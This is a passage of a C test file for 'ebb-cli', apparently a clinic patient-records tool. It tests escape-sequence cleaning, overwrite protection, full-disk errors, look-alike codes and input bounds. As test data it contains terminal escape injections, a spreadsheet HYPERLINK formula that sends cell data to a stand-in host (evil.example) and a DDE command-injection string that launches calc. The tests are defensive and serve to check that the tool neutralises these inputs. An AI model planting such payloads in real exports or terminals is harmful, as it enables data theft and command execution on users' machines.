                              "the clinic file, or remove the link\n", link, target);
  g_assert_cmpint (run_limited (fixture, link, "init"), ==, 1);
  g_assert_true (g_str_has_prefix (fixture->run.err, "ebb-cli init: "));
  g_assert_cmpstr (fixture->run.err + strlen ("ebb-cli init: "), ==, expected);
  g_assert_cmpint (run_limited (fixture, link, "patients"), ==, 1);
  g_assert_cmpstr (fixture->run.err + strlen ("ebb-cli patients: "), ==, expected);
  g_assert_false (trust_exists (target));
}

/* #11 for what ebb-cli prints: with stdout on a full disk, the commands
 * that print as they go exited 0. */
static void
test_messages_stdout_full (Fixture       *fixture,
                           gconstpointer  data)
{
  const char *commands[][3] = {
    { "summary", "P9", NULL },
    { "flags", "--all", NULL },
    { "patients", NULL, NULL },
  };

  if (!g_file_test ("/dev/full", G_FILE_TEST_EXISTS))
    {
      g_test_skip ("no /dev/full");
      return;
    }
  make_p9 (fixture);
  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
    {
      g_autofree char *expected = g_strdup_printf ("ebb-cli %s: cannot write the output: the disk is full\n",
                                                   commands[i][0]);

      g_assert_cmpint (run_limited_full (fixture, fixture->db, NULL, "/dev/full", commands[i]), ==, 1);
      g_assert_cmpstr (fixture->run.err, ==, expected);
    }
}

/* In the child: writes past 64 KiB end the process with SIGXFSZ, as a
 * kill in the middle of writing would. */
static void
limit_file_size (gpointer user_data)
{
  struct rlimit size = { 64 * 1024, 64 * 1024 };
  struct rlimit no_core = { 0, 0 };

  setrlimit (RLIMIT_CORE, &no_core);
  setrlimit (RLIMIT_FSIZE, &size);
  signal (SIGXFSZ, SIG_DFL);
}

/* #13: `chart -o` and `export-csv` replaced anyone's file without asking,
 * and a killed chart left its temporary file behind. */
static void
test_output_overwrite (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autofree char *notes = fixture_path (fixture, "notes.png");
  g_autofree char *report = fixture_path (fixture, "report.pdf");
  g_autofree char *record = fixture_path (fixture, "record.pdf");
  g_autofree char *export_dir = fixture_path (fixture, "export");
  g_autofree char *theirs = fixture_path (fixture, "export/patients.csv");
  g_autofree char *sessions = fixture_path (fixture, "export/sessions.csv");
  g_autofree char *dangling = fixture_path (fixture, "link.png");
  g_autofree char *expected = NULL;
  g_autofree char *listing = NULL;
  g_autoptr(GBytes) kept = NULL;

  make_p9 (fixture);
  write_text (fixture, "notes.png", "my notes\n");
  expected = g_strdup_printf ("ebb-cli chart: %s exists already: give --force to replace it, "
                              "or choose another name\n", notes);
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "-o", notes), ==, 1);
  g_assert_cmpstr (fixture->run.err, ==, expected);
  kept = trust_read_bytes (notes);
  g_assert_cmpmem (g_bytes_get_data (kept, NULL), g_bytes_get_size (kept), "my notes\n", 9);
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "--force", "-o", notes), ==, 0);
  g_assert_true (has_png_signature (notes));

  /* A link to nowhere is a file there too: it is not silently replaced. */
  g_assert_cmpint (symlink ("nowhere.png", dangling), ==, 0);
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "-o", dangling), ==, 1);
  g_assert_true (g_file_test (dangling, G_FILE_TEST_IS_SYMLINK));

  write_text (fixture, "report.pdf", "minutes\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "report", "P9", "-o", report), ==, 1);
  g_assert_nonnull (strstr (fixture->run.err, "exists already: give --force"));
  g_assert_cmpint (run_limited (fixture, fixture->db, "report", "P9", "--force", "-o", report), ==, 0);

  write_text (fixture, "record.pdf", "session notes\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "session-record", "P9", "2025-10-01", "-o", record), ==, 1);
  g_assert_nonnull (strstr (fixture->run.err, "exists already: give --force"));
  g_clear_pointer (&kept, g_bytes_unref);
  kept = trust_read_bytes (record);
  g_assert_cmpmem (g_bytes_get_data (kept, NULL), g_bytes_get_size (kept), "session notes\n", 14);
  g_assert_cmpint (run_limited (fixture, fixture->db, "session-record", "P9", "2025-10-01", "--force",
                                "-o", record), ==, 0);

  g_assert_cmpint (g_mkdir (export_dir, 0700), ==, 0);
  write_text (fixture, "export/patients.csv", "my own list\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "export-csv", export_dir), ==, 1);
  g_clear_pointer (&expected, g_free);
  expected = g_strdup_printf ("ebb-cli export-csv: %s exists already: give --force to replace it, "
                              "or choose another name\n", theirs);
  g_assert_cmpstr (fixture->run.err, ==, expected);
  g_assert_false (trust_exists (sessions));
  g_clear_pointer (&kept, g_bytes_unref);
  kept = trust_read_bytes (theirs);
  g_assert_cmpmem (g_bytes_get_data (kept, NULL), g_bytes_get_size (kept), "my own list\n", 12);
  g_assert_cmpint (run_limited (fixture, fixture->db, "export-csv", "--force", export_dir), ==, 0);
  g_assert_true (trust_exists (sessions));
  listing = list_dir (export_dir);
  g_assert_cmpstr (listing, ==, "events.csv medicines.csv patients.csv readings.csv scores.csv sessions.csv");

  /* Killed while writing (SIGXFSZ, past a 64 KiB file size limit): no
   * chart, and no temporary file, empty or not. */
  g_clear_pointer (&listing, g_free);
  g_assert_cmpint (run_limited_v (fixture, fixture->db, limit_file_size,
                                  (const char * const[]) { "chart", "P9", "--dpi", "600",
                                                           "-o", "killed.png", NULL }), ==, -1);
  g_assert_cmpint (fixture->run.signal, ==, SIGXFSZ);
  listing = list_dir (fixture->dir);
  g_assert_cmpstr (listing, ==, "export link.png notes.png record.pdf report.pdf");
}

/* #10: codes and names printed by `flags` and `summary`, and error
 * messages, carried terminal escape sequences: every byte ebb-cli prints
 * is cleaned in one place. */
static void
test_output_escapes (Fixture       *fixture,
                     gconstpointer  data)
{
  g_autofree char *patients = trust_example_path ("patients.csv");
  g_autofree char *sessions = trust_example_path ("sessions.csv");
  g_autofree char *scores = trust_example_path ("scores.csv");
  const char *hostile_code = "S03-003\x1b]0;pwned\x07";
  g_autofree char *sql = NULL;

  g_assert_cmpint (run_limited (fixture, fixture->db, "import", patients, sessions, scores), ==, 0);
  /* Written behind Ebb's back, as a file from before codes were checked
   * may hold them. */
  sql = g_strdup_printf ("UPDATE patient SET code = '%s', name = 'Eve' || char (27) || '[2J'"
                         " WHERE code = 'S03-003'", hostile_code);
  trust_sql_exec (fixture->db, sql);

  g_assert_cmpint (run_limited (fixture, fixture->db, "flags", "--all", "--as-of", "2026-11-20"), ==, 0);
  g_assert_null (strchr (fixture->run.out, '\x1b'));
  g_assert_null (strchr (fixture->run.out, '\x07'));
  /* A table cell turns its controls into spaces itself. */
  g_assert_nonnull (strstr (fixture->run.out, "\nS03-003 ]0;pwned \n"));
  g_assert_cmpint (run_limited (fixture, fixture->db, "flags", "--all", "--as-of", "2026-11-20",
                                "--format", "csv"), ==, 0);
  g_assert_null (strchr (fixture->run.out, '\x1b'));
  g_assert_nonnull (strstr (fixture->run.out,
                            "\nS03-003\xef\xbf\xbd]0;pwned\xef\xbf\xbd,MADRS,suicide-item,2025-11-01,"));

  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", hostile_code, "--as-of", "2026-11-20"), ==, 0);
  g_assert_true (g_str_has_prefix (fixture->run.out,
                                   "S03-003\xef\xbf\xbd]0;pwned\xef\xbf\xbd  Eve\xef\xbf\xbd[2J · born 1989\n"));
  g_assert_null (strchr (fixture->run.out, '\x1b'));

  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "K\x1b[31mX\x9b" "2J"), ==, 1);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli summary: There is no patient with the code “K\xef\xbf\xbd[31mX\xef\xbf\xbd" "2J”\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "S03-001", "--theme", "\x1b[5m",
                                "-o", "x.png"), ==, 2);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli chart: --theme must be light, dark or print, not “\xef\xbf\xbd[5m”\n");
}

/* The filter sees the output in pieces (the C library's buffer of BUFSIZ
 * bytes, and writes in whole multiples of it), which may cut a character
 * in two: it must come out whole, never as U+FFFD.  Patients are added
 * until a cut falls inside a character, which takes a few tries. */
static gboolean
cut_inside_a_character (const char *text)
{
  gsize length = strlen (text);

  for (gsize at = BUFSIZ; at < length; at += BUFSIZ)
    {
      if (((guchar) text[at] & 0xC0) == 0x80)
        return TRUE;
    }
  return FALSE;
}

static void
test_output_long_utf8 (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  gboolean cut = FALSE;
  guint n = 0;

  for (guint attempt = 0; attempt < 40 && !cut; attempt++)
    {
      guint n_names = 0;

      for (guint i = 0; i < (attempt == 0 ? 300 : 1); i++, n++)
        {
          g_autofree char *code = g_strdup_printf ("Ż-%03u", n);
          g_autofree char *name = g_strdup_printf ("Zoë Żółć “%u” · 日本%s", n, n % 3 ? "é" : "");

          trust_add_patient (store, code, name, NULL);
        }
      g_assert_cmpint (run_limited (fixture, fixture->db, "patients"), ==, 0);
      g_assert_cmpuint (strlen (fixture->run.out), >, 2 * BUFSIZ);
      g_assert_true (g_utf8_validate (fixture->run.out, -1, NULL));
      g_assert_null (strstr (fixture->run.out, "\xef\xbf\xbd"));
      for (const char *p = fixture->run.out; (p = strstr (p, "Zoë Żółć “")) != NULL; p++)
        n_names++;
      g_assert_cmpuint (n_names, ==, n);
      cut = cut_inside_a_character (fixture->run.out);
    }
  g_assert_true (cut);
}

/* #10: a patient coded "-o" could not be named on the command line. */
static void
test_output_double_dash (Fixture       *fixture,
                         gconstpointer  data)
{
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  g_autofree char *chart = fixture_path (fixture, "dash.png");
  gint64 id = trust_add_patient (store, "-o", "Dash", NULL);

  trust_add_rating (store, id, "2025-10-01", 30, NULL);
  g_clear_object (&store);

  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "--", "-o"), ==, 0);
  g_assert_true (g_str_has_prefix (fixture->run.out, "-O  Dash\n"));
  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "--as-of", "2025-12-01", "--", "-O"), ==, 0);
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "-o", chart, "--", "-o"), ==, 0);
  g_assert_true (has_png_signature (chart));
  g_assert_cmpint (run_limited (fixture, fixture->db, "--", "summary", "--", "-o"), ==, 0);
  /* Without "--", "-o" is the option it looks like. */
  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "-o"), ==, 2);
}

/* #10: a name that is a spreadsheet formula stays a name in the exported
 * file, and an import of the export gives back what was exported. */
static void
test_export_formulas (Fixture       *fixture,
                      gconstpointer  data)
{
  const char *formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Jane\")";
  g_autofree char *export_dir = fixture_path (fixture, "export");
  g_autofree char *exported = fixture_path (fixture, "export/patients.csv");
  g_autofree char *again = fixture_path (fixture, "again.db");
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  g_autoptr(EbbStore) reread = NULL;
  g_autoptr(EbbPatient) patient = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  const char *paths[4] = { NULL };

  trust_add_patient (store, "-o", formula, "@SUM(1+1)*cmd|' /C calc'!A0");
  trust_add_patient (store, "K-1", "+49 30 1234", "-3");
  g_clear_object (&store);

  g_assert_cmpint (run_limited (fixture, fixture->db, "export-csv", export_dir), ==, 0);
  bytes = trust_read_bytes (exported);
  text = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  g_assert_cmpstr (text, ==,
                   "patient,name,birth_year,notes,ended,end_reason\n"
                   "'-O,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Jane\"\")\",,"
                   "'@SUM(1+1)*cmd|' /C calc'!A0,,\n"
                   "K-1,'+49 30 1234,,-3,,\n");

  paths[0] = exported;
  paths[1] = fixture_path (fixture, "export/sessions.csv");
  paths[2] = fixture_path (fixture, "export/scores.csv");
  g_assert_cmpint (run_limited (fixture, again, "init"), ==, 0);
  g_assert_cmpint (run_limited (fixture, again, "import", paths[0], paths[1], paths[2]), ==, 0);
  g_free ((char *) paths[1]);
  g_free ((char *) paths[2]);
  reread = ebb_store_open (again, EBB_STORE_OPEN_READ_ONLY, &error);
  g_assert_no_error (error);
  patient = ebb_store_find_patient (reread, "-O", &error);
  g_assert_no_error (error);
  g_assert_cmpstr (patient->name, ==, formula);
  g_assert_cmpstr (patient->notes, ==, "@SUM(1+1)*cmd|' /C calc'!A0");
}

/* #9: look-alike codes were four patients: one code now has one form. */
static void
test_codes_look_alike (Fixture       *fixture,
                       gconstpointer  data)
{
  struct {
    const char *code;
    const char *message;   /* NULL: a look-alike of a stored code */
  } refused[] = {
    { "s03-000", NULL },
    { "  S03-000\t", NULL },
    { "\xef\xbc\xb3" "03-000", NULL },    /* a full-width S */
    { "S03-000\xe2\x80\x8b",
      "The patient code “S03-000\xef\xbf\xbd” holds an invisible or control character (U+200B) "
      "as character 8: type the code again without it" },
    { "S03\xc2\xad-000",                 /* a soft hyphen */
      "The patient code “S03\xef\xbf\xbd-000” holds an invisible or control character (U+00AD) "
      "as character 4: type the code again without it" },
    { "K\x1b[31m",
      "The patient code “K\xef\xbf\xbd[31m” holds an invisible or control character (U+001B) "
      "as character 2: type the code again without it" },
    { "Jose\xcc\x81", NULL },             /* e and a combining acute */
    { "jos\xc3\xa9", NULL },              /* é, composed, in small letters */
    { "   ", "A patient needs a clinic code" },
    { "K-0123456789012345678901234567890",
      "The patient code “K-01234567890123…” has 33 characters: a code has at most 32" },
  };
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  g_autoptr(EbbPatient) found = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *patients_csv = fixture_path (fixture, "patients.csv");
  gint64 s03 = trust_add_patient (store, "S03-000", "Ann", NULL);
  gint64 jose = trust_add_patient (store, "Jos\xc3\xa9", "José", NULL);

  for (guint i = 0; i < G_N_ELEMENTS (refused); i++)
    {
      g_autoptr(EbbPatient) patient = ebb_patient_new (refused[i].code, "Look-alike");
      g_autoptr(GError) refusal = NULL;

      g_test_message ("code “%s”", refused[i].code);
      g_assert_false (ebb_store_add_patient (store, patient, &refusal));
      g_assert_error (refusal, EBB_STORE_ERROR, EBB_STORE_ERROR_CONSTRAINT);
      if (refused[i].message != NULL)
        g_assert_cmpstr (refusal->message, ==, refused[i].message);
      else
        g_assert_true (g_str_has_prefix (refusal->message, "There is already a patient with the code"));
    }
  g_assert_cmpuint (trust_count (store, "patients"), ==, 2);

  /* Any spelling finds the one patient. */
  found = ebb_store_find_patient (store, " s03-000 ", &error);
  g_assert_no_error (error);
  g_assert_cmpint (found->id, ==, s03);
  g_assert_cmpstr (found->code, ==, "S03-000");
  g_clear_pointer (&found, ebb_patient_free);
  found = ebb_store_find_patient (store, "JOSE\xcc\x81", &error);
  g_assert_no_error (error);
  g_assert_cmpint (found->id, ==, jose);
  g_assert_cmpstr (found->code, ==, "JOS\xc3\x89");
  g_clear_object (&store);

  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "s03-000"), ==, 0);
  g_assert_true (g_str_has_prefix (fixture->run.out, "S03-000  Ann\n"));

  /* An import can bring a look-alike too: never as a second patient. */
  write_text (fixture, "patients.csv", "patient,name\ns03-000,Ann\nS03-000\xe2\x80\x8b,Ann\n");
  run_limited (fixture, fixture->db, "import", patients_csv);
  g_assert_cmpint (trust_sql_int (fixture->db, "SELECT count(*) FROM patient"), ==, 2);
}

/* #13: a 1 MB name, a dose of 100,000 mg and a rating dated 0001-01-01
 * were stored; #12: messages quote at most a short, clean start of what
 * was wrong. */
static void
test_bounds (Fixture       *fixture,
             gconstpointer  data)
{
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  g_autoptr(EbbPatient) huge = ebb_patient_new ("K-1", NULL);
  g_autoptr(EbbPatient) longest = NULL;
  g_autoptr(EbbSession) session = ebb_session_new ();
  g_autoptr(EbbRating) rating = ebb_rating_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *patients_csv = fixture_path (fixture, "patients.csv");
  g_autofree char *sessions_csv = fixture_path (fixture, "sessions.csv");
  g_autoptr(GString) csv = g_string_new ("patient,name\nK-2,");
  g_autofree char *expected = NULL;
  gint64 id;

  g_free (huge->name);
  huge->name = g_strnfill (1 << 20, 'x');
  g_assert_false (ebb_store_add_patient (store, huge, &error));
  g_assert_cmpstr (error->message, ==, "Too long: the patient name may have at most 120 characters");
  g_clear_error (&error);
  g_free (huge->name);
  huge->name = g_strnfill (100, 'x');
  huge->notes = g_strnfill (10001, 'n');
  g_assert_false (ebb_store_add_patient (store, huge, &error));
  g_assert_cmpstr (error->message, ==, "Too long: the patient notes may have at most 10000 characters");
  g_clear_error (&error);

  /* The bounds themselves are allowed: 120 characters (of two bytes). */
  longest = ebb_patient_new ("K-1", NULL);
  {
    GString *name = g_string_new (NULL);

    for (guint i = 0; i < 120; i++)
      g_string_append (name, "é");
    g_free (longest->name);
    longest->name = g_string_free (name, FALSE);
  }
  g_assert_cmpint (g_utf8_strlen (longest->name, -1), ==, 120);
  longest->notes = g_strnfill (10000, 'n');
  g_assert_true (ebb_store_add_patient (store, longest, &error));
  g_assert_no_error (error);
  id = longest->id;

  session->patient_id = id;
  session->when_text = g_strdup ("2025-10-01");
  session->status = EBB_SESSION_DONE;
  session->route = EBB_ROUTE_IV;
  session->dose_mg = 100000;
  g_assert_false (ebb_store_add_session (store, session, &error));
  g_assert_cmpstr (error->message, ==,
                   "A dose of 100000 mg IV is not plausible: Ebb takes up to 200 mg IV. Check the number");
  g_clear_error (&error);
  session->route = EBB_ROUTE_ORAL;
  session->dose_mg = 500.5;
  g_assert_false (ebb_store_add_session (store, session, &error));
  g_assert_cmpstr (error->message, ==,
                   "A dose of 500.5 mg oral is not plausible: Ebb takes up to 500 mg oral. Check the number");
  g_clear_error (&error);
  session->dose_mg = 500;
  g_assert_true (ebb_store_add_session (store, session, &error));
  g_assert_no_error (error);

  rating->patient_id = id;
  rating->when_text = g_strdup ("0001-01-01");
  rating->scale_id = g_strdup ("MADRS");
  rating->total = 20;
  g_assert_false (ebb_store_add_rating (store, rating, &error));
  g_assert_cmpstr (error->message, ==, "“0001-01-01” is not a plausible date: use a year from 1900 to 2199");
  g_clear_error (&error);
  g_assert_cmpuint (trust_count (store, "ratings"), ==, 0);
  g_clear_object (&store);

  /* Through an import, a megabyte name is refused in a short message. */
  for (guint i = 0; i < (1 << 20) / 8; i++)
    g_string_append (csv, "Jane Doe");
  g_string_append_c (csv, '\n');
  trust_write_bytes (patients_csv, csv->str, csv->len);
  g_assert_cmpint (run_limited (fixture, fixture->db, "import", patients_csv), ==, 1);
  g_assert_nonnull (strstr (fixture->run.err, "Too long: the patient name may have at most 120 characters"));
  g_assert_cmpuint (strlen (fixture->run.err), <, 400);
  g_assert_cmpint (trust_sql_int (fixture->db, "SELECT count(*) FROM patient"), ==, 1);

  /* #12: with the columns shifted, a name sits where the date belongs. */
  write_text (fixture, "sessions.csv",
              "patient,date,status,phase,route\n"
              "K-1,Jane Doe born 1970 HIV+,done,induction,iv\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "import", sessions_csv), ==, 1);
  expected = g_strdup_printf ("%s:2: date: “Jane Doe born 19…” is not a valid date: use YYYY-MM-DD "
                              "or YYYY-MM-DDTHH:MM\n", sessions_csv);
  g_assert_true (g_str_has_prefix (fixture->run.err, expected));
  g_assert_null (strstr (fixture->run.err, "HIV"));

  /* And on the command line. */
  g_assert_cmpint (run_limited (fixture, fixture->db, "flags", "--format",
                                "Jane Doe, born 1970, HIV+, lives at 1 High Street"), ==, 2);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli flags: --format must be text, csv or json, not “Jane Doe, born 1…”\n");
}

int
main (int    argc,
      char **argv)
{
  umask (0);
  g_test_init (&argc, &argv, NULL);

#define ADD_TEST(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD_TEST ("/trust-cli/audit/text", test_audit_text);
  ADD_TEST ("/trust-cli/audit/patient", test_audit_patient);
  ADD_TEST ("/trust-cli/audit/csv", test_audit_csv);
  ADD_TEST ("/trust-cli/audit/empty-and-usage", test_audit_empty_and_usage);
  ADD_TEST ("/trust-cli/audit/odd-rows", test_audit_odd_rows);
  ADD_TEST ("/trust-cli/restore/restores", test_restore);
  ADD_TEST ("/trust-cli/restore/refused", test_restore_refused);
  ADD_TEST ("/trust-cli/privacy/file-modes", test_file_modes);
  ADD_TEST ("/trust-cli/dates/far-future-refused", test_dates_far_future_refused);
  ADD_TEST ("/trust-cli/dates/far-future-stored", test_dates_far_future_stored);
  ADD_TEST ("/trust-cli/output/pdf-full-disk", test_output_pdf_full_disk);
  ADD_TEST ("/trust-cli/output/overwrite", test_output_overwrite);
  ADD_TEST ("/trust-cli/output/escapes", test_output_escapes);
  ADD_TEST ("/trust-cli/output/long-utf8", test_output_long_utf8);
  ADD_TEST ("/trust-cli/output/double-dash", test_output_double_dash);
  ADD_TEST ("/trust-cli/output/export-formulas", test_export_formulas);
  ADD_TEST ("/trust-cli/codes/look-alike", test_codes_look_alike);
  ADD_TEST ("/trust-cli/input/bounds", test_bounds);
  ADD_TEST ("/trust-cli/messages/full-disk", test_messages_full_disk);
  ADD_TEST ("/trust-cli/messages/dangling-link", test_messages_dangling_link);
  ADD_TEST ("/trust-cli/messages/stdout-full", test_messages_stdout_full);

  return g_test_run ();
}
